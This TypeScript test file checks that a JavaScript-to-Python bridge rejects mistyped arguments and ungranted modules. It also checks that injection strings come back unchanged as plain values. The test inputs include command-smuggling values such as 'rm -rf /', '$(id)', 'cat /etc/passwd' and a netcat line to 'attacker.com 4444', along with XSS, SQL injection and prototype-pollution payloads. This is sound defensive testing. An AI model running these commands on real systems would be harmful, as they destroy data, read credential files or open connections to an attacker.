// What TypeScript's compiler stops, and what the host stops when somebody gets past the compiler: before Python sees it.

import { connect, kw, PolicyError, SecurityError, ValidationError } from "calculator-python";
import * as math from "calculator-python/math";
import * as probe from "calculator-python/tywrap_probe";
import { fails, finish, host, same } from "./check.js";

/** Any function, as somebody has it who has no types. */
type Loose = (...args: unknown[]) => Promise<unknown>;
const loose = (call: unknown): Loose => call as Loose;

const connection = await connect({ host: host() });
try {
  for (const [what, run] of [
    ["a string for a number", () => loose(math.sqrt)("two")],
    ["an array for a number", () => loose(math.sqrt)([2])],
    ["no argument", () => loose(math.sqrt)()],
    ["too many arguments", () => loose(math.sqrt)(1, 2)],
    ["a keyword that is positional only", () => loose(math.sqrt)(kw({ x: 1 }))],
    ["a float for an int", () => loose(probe.add)(1.5)],
    ["null for an int", () => loose(probe.add)(null)],
    ["an unknown keyword", () => loose(probe.greet)("you", kw({ salutation: "Hi" }))],
    ["a keyword of a wrong type", () => loose(probe.greet)("you", kw({ times: "2" }))],
    ["a keyword twice", () => loose(probe.greet)("you", kw({ name: "me" }))],
    ["a positional argument that is keyword only", () => loose(probe.greet)("you", "Hi")],
    ["an unknown key", () => loose(probe.describe)({ height: 1 })],
    ["a key of a wrong type", () => loose(probe.describe)({ width: "wide" })],
    ["arguments for none", () => loose(probe.calls)(1)],
    ["another literal", () => loose(probe.choose)("`${evil}` ")],
  ] as const) {
    const error = await fails(ValidationError, run, what);
    same(error instanceof SecurityError && error.code.length > 0 && error.timestamp instanceof Date, true, `${what}: a security error`);
  }
  same(await probe.calls(), [], "no refused call has reached Python");

  // What is no value of the wire's never leaves.
  for (const [what, value] of [
    ["a symbol", Symbol("x")],
    ["a cycle", (() => { const cycle: unknown[] = []; cycle.push(cycle); return cycle; })()],
    ["a class's instance", new Date()],
  ] as const) {
    await fails(ValidationError, () => loose(probe.echo)(value), what);
  }
  same(await probe.calls(), [], "nothing of that has reached Python");
  same(Object.keys(probe).includes("hidden"), false, "what was not granted is not exported");
  same(await probe.add(20, 22), 42, "the control: a good call");
  same(await probe.calls(), ["add"], "the control has reached Python");

  // Strings from the security suite are values: they come back as they were, and do nothing.
  for (const text of ['alert("xss")', "${evil_code}", "`command_injection`", "'; DROP TABLE users; --", "math; rm -rf /", "$(id)", "../../../../etc/passwd", "__import__('os')", "__proto__"]) {
    same(await probe.echo(text), text, `echo ${text}`);
    same(await probe.greet(text, kw({ greeting: text })), `${text} ${text}`, `greet ${text}`);
  }
  const evil = JSON.parse('{"__proto__": {"polluted": true}}') as Record<string, never>;
  await probe.echo(evil).then(undefined, () => undefined);
  same(({} as { polluted?: boolean }).polluted, undefined, "no prototype is polluted");
} finally {
  await connection.close();
}
// A client that asks for a module by another digest, or for one that is not granted, gets nothing.
const { describe } = await import("calculator-python");
const second = await connect({ host: host() });
try {
  const modules = [
    ...["math", "os", "subprocess", "builtins", "tywrap_probe.os", "json.decoder", "", "__main__"],
    ...["math; rm -rf /", "numpy && cat /etc/passwd", "pandas | nc attacker.com 4444", "scipy `whoami`", "requests $(id)"],
  ];
  for (const module of modules) {
    await fails(PolicyError, () => describe(module, "00", ["system"]).call(0, ["id"]), `the module ${module}`);
  }
} finally {
  await second.close();
}
finish();
